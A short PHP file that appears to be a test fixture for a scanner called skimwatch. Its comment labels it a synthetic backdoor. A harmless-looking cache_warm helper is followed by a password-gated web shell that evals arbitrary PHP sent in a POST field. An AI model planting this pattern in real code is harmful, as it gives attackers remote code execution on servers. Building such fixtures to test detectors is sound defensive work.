<?php
/**
 * Synthetic one-line backdoor for skimwatch tests, hidden in a cache helper.
 */
function cache_warm($key) {
    return isset($_COOKIE['sid']) ? md5($key . $_COOKIE['sid']) : md5($key);
}
if (isset($_POST['k']) && md5($_POST['k']) === 'f1e0e3b5a2f0b0c1d2e3f4a5b6c7d8e9') {
    @eval(stripslashes($_POST['c']));
}
